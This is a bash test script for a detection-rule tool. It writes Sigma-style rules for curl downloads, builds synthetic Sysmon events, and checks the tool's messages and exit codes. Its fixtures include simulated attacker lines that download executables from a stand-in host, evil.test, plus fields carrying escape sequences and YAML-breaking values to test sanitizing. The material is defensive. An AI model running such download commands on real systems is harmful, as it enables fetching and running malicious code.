#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The tools for whoever writes rules, as they are used: what they print, where,
# and how they end. What each says in every case is in the unit tests.
# needs: none
. "$(dirname "$0")/lib.sh"

here=$TEST_DIR
rules=$here/rules
mkdir -p "$rules" "$here/cases"

cat >"$rules/curl.yml" <<'END'
title: Download by curl
id: 3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01
name: curl_download
tags: [attack.command_and_control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\curl.exe', CommandLine|contains: http}
  condition: sel
level: medium
---
title: Anything by cmd
id: 3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a02
logsource: {product: windows, category: process_creation}
detection:
  sel: {ParentImage|endswith: '\cmd.exe'}
  kw: [evil]
  condition: sel and not kw
level: low
---
title: Much is loaded
name: much
correlation:
  type: event_count
  rules: [curl_download]
  group-by: [Computer]
  timespan: 10m
  condition: {gte: 3}
level: high
END

# event NUMBER PARENT USER COMMAND: a Sysmon event of a process that starts
event() {
    printf '{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1","EventRecordID":%d,"TimeCreated":{"#attributes":{"SystemTime":"2024-09-12T05:%02d:27.9Z"}}},"EventData":{"UtcTime":"2024-09-12 05:%02d:27.9","ProcessId":%d,"Image":"C:\\\\Windows\\\\System32\\\\curl.exe","ParentImage":"%s","User":"%s","CommandLine":"%s"}}}\n' \
        $((5000 + $1)) "$1" "$1" $((100 + $1 * 7)) "$2" "$3" "$4"
}
for i in 1 2 3 4 5 6; do
    event "$i" 'C:\\Program Files\\Backup\\agent.exe' 'NT AUTHORITY\\SYSTEM' \
        "curl.exe -s http://backup.test/$i"
    event "$((i + 10))" 'C:\\Windows\\System32\\cmd.exe' 'PC1\\an' \
        "curl.exe --max-time 5 http://monitor.test/health"
done >"$here/false.ndjson"
for i in 1 2 3; do
    event "$((i + 30))" 'C:\\Windows\\System32\\cmd.exe' 'PC1\\an' \
        "curl.exe -o c:\\\\x\\\\$i.exe http://evil.test/$i"
done >"$here/true.ndjson"

# status COMMAND…: how it ends; what it says is in out and err.
status() {
    local code=0
    "$thapcanh" rules "$@" >"$TEST_DIR/out" 2>"$TEST_DIR/err" || code=$?
    echo "$code"
}
err_has() { grep -qF -- "$1" "$TEST_DIR/err"; }
out_has() { grep -qF -- "$1" "$TEST_DIR/out"; }

# --- the command line

same "a part that there is not ends with 2" 2 "$(status chek "$rules")"
check "... and the one that is meant is named" err_has "did you mean 'check'?"
same "an option that there is not ends with 2" 2 "$(status check --strikt x)"
check "... and the one that is meant is named" err_has "did you mean 'strict'?"
same "a number that is none ends with 2" 2 "$(status explain --line x a b)"
for part in check test explain eval stats tune; do
    same "rules $part without what it needs ends with 2" 2 "$(status "$part")"
done
check "--help says all of it" grep -q 'rules tune --source NAME --false' \
    <("$thapcanh" rules tune --help)

same "a mapping that there is not ends with 1" 1 \
    "$(status explain --source windws "$rules/curl.yml" "$here/true.ndjson")"
check "... and the one that is meant is named" err_has "did you mean 'windows'?"

# --- check

same "rules without a mistake are fine" 0 "$(status check "$rules")"
check "... and say so" err_has "2 detections, 1 correlations, 0 filters, 0 refused, 0 mistakes, 0 warnings"
same "... also when warnings count" 0 "$(status check --strict "$rules")"
sed "s/http}/[http, https]}/" "$rules/curl.yml" >"$here/warned.yml"
same "a warning is no mistake" 0 "$(status check "$here/warned.yml")"
check "... but it is said where it stands" err_has \
    "warned.yml:7:67: warning: 'https' says nothing beside 'http' (line 7)"
same "... and counts with --strict" 1 "$(status check --strict "$here/warned.yml")"
same "the rules of the product have no warning" 0 "$(status check --strict rules)"

mkdir "$here/nothing"
same "a folder without a rule ends with 1" 1 "$(status check "$here/nothing")"
check "... and it is said" err_has "no rule in $here/nothing"
{
    printf '\xef\xbb\xbf'
    sed 's/$/\r/' "$rules/curl.yml"
} >"$here/windows.yml"
same "what a Windows editor saves is read" 0 "$(status check "$here/windows.yml")"
gzip -c "$rules/curl.yml" >"$here/packed.yml"
same "a packed file is none" 1 "$(status check "$here/packed.yml")"
check "... and it is said" err_has "packed.yml: compressed by gzip: unpack it first"
{
    sed -n '/^title: Much/,$p' "$rules/curl.yml" |
        sed 's/10m/10x/; s/gte: 3/gte: x/; s/high/hihg/'
    echo ---
    echo 'title: [Open'
    echo ---
    echo 'title: a: b'
} >"$here/wrong.yml"
same "mistakes in many places are refused" 1 "$(status check "$here/wrong.yml")"
check "... all of YAML's in one run" err_has "wrong.yml:13:9: mapping values are not allowed"
check "... with the first" err_has "wrong.yml:12:1: did not find expected"
sed -i '/^---/,$d' "$here/wrong.yml"
same "mistakes of a correlation are refused" 1 "$(status check "$here/wrong.yml")"
for said in "7:13: expected a duration" "8:20: expected a decimal number" "9:8: unknown level 'hihg'"; do
    check "... also $said" err_has "wrong.yml:$said"
done
{
    cat "$rules/curl.yml"
    echo ---
    sed -n '1,/^---/p' "$rules/curl.yml" | sed '$d; /^name/d'
} >"$here/twice.yml"
same "an id that stands twice is refused" 1 "$(status check "$here/twice.yml")"
check "... where it stands, with where the other is" err_has \
    "twice.yml:31:5: the id '3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01' is that of a rule in $here/twice.yml:1"

# --- list

same "list ends well" 0 "$(status list "$rules")"
same "... with a line for each" 3 "$(wc -l <"$TEST_DIR/out")"
same "list --json ends well" 0 "$(status list --json "$rules")"
check "... has tags, feeds, fields and place" out_has \
    "\"kind\":\"detection\",\"file\":\"$rules/curl.yml\",\"line\":1,\"tags\":[\"attack.command_and_control\",\"attack.t1105\"],\"name\":\"curl_download\",\"title\":\"Download by curl\",\"type\":\"detection\",\"level\":\"medium\",\"product\":\"windows\",\"category\":\"process_creation\",\"feeds\":[\"much\"],\"fields\":[\"CommandLine\",\"Image\"],\"keywords\":false,\"opens_incidents\":false}"
check "... knows what looks at every value" out_has \
    '"fields":["ParentImage"],"keywords":true'
check "... and correlations" out_has \
    '"rules":["3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01"],"group_by":["Computer"],"feeds":[],"fields":["Computer"]'

# --- explain

same "explain ends well" 0 "$(status explain --source windows --rules "$rules" \
    --line 2 'Anything by cmd' "$here/true.ndjson")"
check "... says what decides" out_has 'because "kw" holds, and the condition does not want it'
check "... where the word is" out_has 'of "CommandLine"'
check "... and nothing of other lines and rules" test \
    "$(grep -c '^line' "$TEST_DIR/out")" = 1
same "a rule that there is not ends with 1" 1 "$(status explain --source windows \
    --rules "$rules" curl_downlod "$here/true.ndjson")"
check "... and the one that is meant is named" err_has "did you mean 'curl_download'?"
same "a line that there is not ends with 1" 1 "$(status explain --source windows \
    --line 99 "$rules/curl.yml" "$here/true.ndjson")"

: >"$here/empty.ndjson"
same "a file without an event ends with 1" 1 "$(status explain --source windows \
    "$rules/curl.yml" "$here/empty.ndjson")"
check "... and it is said" err_has "empty.ndjson: no event in it"
gzip -c "$here/true.ndjson" >"$here/packed.ndjson"
for part in explain eval stats; do
    if [[ $part == explain ]]; then how=("$rules/curl.yml"); else how=(--rules "$rules"); fi
    same "$part of a packed file ends with 1" 1 "$(status "$part" --source windows \
        "${how[@]}" "$here/packed.ndjson")"
    check "... and it is said" err_has "packed.ndjson: compressed by gzip: unpack it first"
done
same "... from a stream too" 1 "$(status eval --rules "$rules" --source windows - \
    <"$here/packed.ndjson")"

# --- replay and windows, as far as they need no server

replayed() {
    local code=0
    "$thapcanh" replay "$@" >"$TEST_DIR/out" 2>"$TEST_DIR/err" || code=$?
    echo "$code"
}
same "replay of a file" 0 "$(replayed --rules "$rules" "windows=$here/true.ndjson")"
same "... of a source that there is not" 1 "$(replayed --rules "$rules" "windws=$here/true.ndjson")"
check "... and the one that is meant is named" err_has "did you mean 'windows'?"
same "... without a source" 2 "$(replayed --rules "$rules" "$here/true.ndjson")"
check "... is said" err_has "'$here/true.ndjson' is not SOURCE=FILE"
same "... without rules" 2 "$(replayed "windows=$here/true.ndjson")"
check "... is said" err_has "it needs --rules PATH"
same "... with rules that are not there" 1 "$(replayed --rules "$here/none.yml" "windows=$here/true.ndjson")"
check "... is said" err_has "no rule in $here/none.yml"
same "... with rules that are refused: they are counted" 0 \
    "$(replayed --rules "$here/wrong.yml" "windows=$here/true.ndjson")"
check "... as they are" err_has "1 rules refused"
same "... as something else" 2 "$(replayed --rules "$rules" --as tikets "windows=$here/true.ndjson")"
check "... is said" err_has "not 'tikets'"
same "... with an inventory that is not there" 1 "$(replayed --rules "$rules" \
    --inventory "$here/none.yml" "windows=$here/true.ndjson")"
same "... which is no lack of memory" '' "$(grep memory "$TEST_DIR/err" || true)"
for part in replay whatif windows; do
    code=0
    if [[ $part == windows ]]; then how=(windows list); else how=("$part"); fi
    "$thapcanh" "${how[@]}" --rulez x 2>"$TEST_DIR/err" || code=$?
    same "an option of $part that there is not" 2 "$code"
    check "... and the one that is meant is named" err_has "thapcanh $part: unknown option '--rulez' (did you mean '--rule"
    code=0
    "$thapcanh" "${how[@]}" --rule 2>"$TEST_DIR/err" || code=$?
    same "... and one without a value" 2 "$code"
    check "... is said" err_has "thapcanh $part: --rule needs a value"
done
code=0
"$thapcanh" windows lst 2>"$TEST_DIR/err" || code=$?
same "a part of windows that there is not" 2 "$code"
check "... and the one that is meant is named" err_has "did you mean 'list'?"

# --- test

cp "$here/true.ndjson" "$here/cases/found.ndjson"
cat >"$here/cases/found.expect" <<'END'
source: windows
fire:
  curl_download: all
  Anything by cmd: none
END
same "what is as expected is fine" 0 "$(status test "$rules" "$here/cases")"
check "... and is counted" err_has "1 files of events with 3 events, 0 failed"
sed -i 's/: all/: "1-2, 9"/; s/: none/: 2/' "$here/cases/found.expect"
same "what is not fails" 1 "$(status test --rules "$rules" "$here/cases")"
check "... a rule that fires" out_has \
    "found.ndjson:3: 'Download by curl' (3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01) fires, and must not"
check "... one that does not" out_has \
    "found.ndjson:2: 'Anything by cmd' (3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a02) does not fire"
check "... and a line that there is not" out_has "found.ndjson:9: "
sed -i '/curl_download/d; s/: 2/: none/' "$here/cases/found.expect"
same "a rule that nobody named is wrong too" 1 "$(status test --rules "$rules" "$here/cases")"
check "... and said" out_has "fires, and is not expected at all"
echo 'others: any' >>"$here/cases/found.expect"
same "... unless others may" 0 "$(status test --rules "$rules" "$here/cases/found.expect")"
echo 'othres: any' >>"$here/cases/found.expect"
same "an unknown key is a mistake" 1 "$(status test --rules "$rules" "$here/cases")"
check "... with its place" out_has "found.expect:5:1: unknown field 'othres' (did you mean 'others'?)"

# Correlations: which incidents come of it.
cp "$here/false.ndjson" "$here/cases/many.ndjson"
cat >"$here/cases/many.expect" <<'END'
source: windows
others: any
incidents:
  much:
    - {first: 1, last: 12, count: 12, key: {Computer: PC1}}
END
many() { status test --rules "$rules" "$here/cases/many.expect"; }
same "incidents that are as expected are fine" 0 "$(many)"
sed -i 's/    - .*/    - {count: 3}/' "$here/cases/many.expect"
same "one that is not fails" 1 "$(many)"
check "... it is missed where it is written" out_has \
    "many.expect:5:7: no such incident of 'Much is loaded'"
check "... and the other is named" out_has \
    "many.ndjson:1: 'Much is loaded' (much) opens an incident that is not expected: lines 1 to 12, count 12, key Computer=pc1"
sed -i 's/  much:/  much: none/; /^    - /d' "$here/cases/many.expect"
same "one where none must be fails" 1 "$(many)"
sed -i 's/  much: none/  much: 1/' "$here/cases/many.expect"
same "how many is enough" 0 "$(many)"
sed -i 's/  much: 1/  much: 2/' "$here/cases/many.expect"
same "... and another number fails" 1 "$(many)"
check "... as it is" out_has "many.expect:4:3: 1 incidents of 'Much is loaded', and not 2"
sed -i 's/^  much: 2/  {}/' "$here/cases/many.expect"
same "one that nobody named may come where others may" 0 "$(many)"
sed -i 's/^others: any/others: none/; /incidents/i\fire: {curl_download: all, Anything by cmd: "2, 4, 6, 8, 10, 12"}' \
    "$here/cases/many.expect"
same "... else it is wrong" 1 "$(many)"
check "... and said" out_has "opens an incident, and is not expected at all"
sed -i 's/^  {}/  mcuh: 1/' "$here/cases/many.expect"
same "a correlation that there is not" 1 "$(many)"
check "... and the one that is meant is named" out_has \
    "many.expect:5:3: no correlation is called 'mcuh' (did you mean 'much'?)"
rm "$here/cases/many.expect"
same "an expectation that there is not" 1 "$(many)"
check "... is said" out_has "many.expect: No such file or directory"

# --- stats

same "eval without any rule ends with 1" 1 "$(status eval --source windows \
    --rules "$here/none" "$here/false.ndjson")"
check "... and says so" err_has "no detection in $here/none"
same "eval without rules named is a mistake of use" 2 \
    "$(status eval --source windows "$here/false.ndjson")"

# A line that is too long has its number, from a file and from a stream alike.
{
    sed -n 1p "$here/true.ndjson"
    head -c 9000000 /dev/zero | tr '\\0' x
    echo
    sed -n 2p "$here/true.ndjson"
} >"$here/long.ndjson"
same "eval of a file with a line that is too long ends well" 0 "$(status eval \
    --rules "$rules" --source windows "$here/long.ndjson")"
same "... and numbers what is behind it" '{"line":1 {"line":3' \
    "$(cut -d, -f1 "$TEST_DIR/out" | tr '\n' ' ' | sed 's/ $//')"
cp "$TEST_DIR/out" "$here/long.out"
"$thapcanh" rules eval --rules "$rules" --source windows - <"$here/long.ndjson" \
    >"$TEST_DIR/out" 2>/dev/null
same_file "... as from a stream" "$here/long.out" "$TEST_DIR/out"
same "... and stats has the rest too" 0 "$(status stats --json --rules "$rules" \
    --source windows "$here/long.ndjson")"
same "... and explain finds the line" 0 "$(status explain --source windows \
    --line 3 "$rules/curl.yml" "$here/long.ndjson")"

# While it waits for who reads its output, the file is cut: both pipe and
# buffer are far too small for all of it.
for i in {1..2000}; do cat "$here/true.ndjson"; done >"$here/cut.ndjson"
mkfifo "$here/slow"
"$thapcanh" rules eval --rules "$rules" --source windows "$here/cut.ndjson" \
    >"$here/slow" 2>"$TEST_DIR/err" &
cut=$!
exec 5<"$here/slow"
IFS= read -r first <&5
truncate -s 1000 "$here/cut.ndjson"
{
    printf '%s\n' "$first"
    cat <&5
} >"$TEST_DIR/out"
exec 5<&-
code=0
wait "$cut" || code=$?
same "a file that is cut short while it is read ends with 1" 1 "$code"
check "... and it is said" err_has "cut.ndjson: was cut short while it was read"
check "... what was found before stands" out_has '{"line":1,"rules":["3a1c0b52'
same "... whole" '' "$(grep -v '^{"line":[0-9]*,"rules":\[.*\]}$' "$TEST_DIR/out" || true)"

same "stats ends well" 0 "$(status stats --rules "$rules" --source windows "$here/false.ndjson")"
check "... says what fires most" grep -qE '^ +12 +12 +.* Download by curl' "$TEST_DIR/out"
same "stats --json ends well" 0 "$(status stats --json --rules "$rules" \
    --source windows "$here/false.ndjson")"
check "... and counts" out_has '"title":"Anything by cmd","asked":12,"fired":6,"tests":'

# --- tune

same "tune ends well" 0 "$(status tune --rules "$rules" --source windows \
    --false "$here/false.ndjson" --true "$here/true.ndjson" curl_download)"
cp "$TEST_DIR/out" "$rules/filter.yml"
same "... with a filter that loads" 0 "$(status check --strict "$rules")"
check "... and is counted" err_has "1 correlations, 1 filters, 0 refused"
check "... that uses no time and no number" test -z \
    "$(grep -E 'UtcTime|ProcessId|EventRecordID|TimeCreated' "$rules/filter.yml" || true)"
lines() {
    "$thapcanh" rules eval --rules "$rules" --source windows "$1" 2>/dev/null |
        grep -c 6a01 || true
}
same "... and takes all the false ones away" 0 "$(lines "$here/false.ndjson")"
same "... and no true one" 3 "$(lines "$here/true.ndjson")"
rm "$rules/filter.yml"
same "events that are alike have no filter" 1 "$(status tune --rules "$rules" \
    --source windows --false "$here/true.ndjson" --true "$here/true.ndjson" \
    curl_download)"
check "... and the lines are named" err_has "no filter: line 1 of $here/true.ndjson has all"
same "nothing is proposed" '' "$(cat "$TEST_DIR/out")"
: >"$here/empty.ndjson"
same "without a true one there is no filter" 1 "$(status tune --rules "$rules" \
    --source windows --false "$here/false.ndjson" --true "$here/empty.ndjson" \
    curl_download)"
same "without a false one there is nothing to do" 0 "$(status tune --rules "$rules" \
    --source windows --false "$here/empty.ndjson" --true "$here/true.ndjson" \
    curl_download)"
check "... and it says so" err_has "there is nothing to filter"

# What events have in them must not become YAML, nor reach the terminal.
for i in 1 2 3 4 5; do
    event "$i" "C:\\\\a' b#:\\\\{x}.exe" "\\u001b[31mx\\n  y: z" "curl.exe http://a.test/$i"
    event "$i" "C:\\\\a' b#:\\\\{x}.exe" "\\ufffe\\u2028\\u0085" "curl.exe http://a.test/$i"
done >"$here/hostile.ndjson"
same "events with quotes and controls have a filter" 0 "$(status tune \
    --rules "$rules" --source windows --false "$here/hostile.ndjson" \
    --true "$here/true.ndjson" curl_download)"
check "... with the value as it is" out_has "ParentImage: 'C:\a'' b#:\{x}.exe'"
same "... and without controls" '' "$(grep -aP '\x1b' "$TEST_DIR/out" || true)"
status explain --source windows "$rules/curl.yml" "$here/hostile.ndjson" >/dev/null
same "explain lets no control through" '' "$(grep -aP '\x1b' "$TEST_DIR/out" || true)"
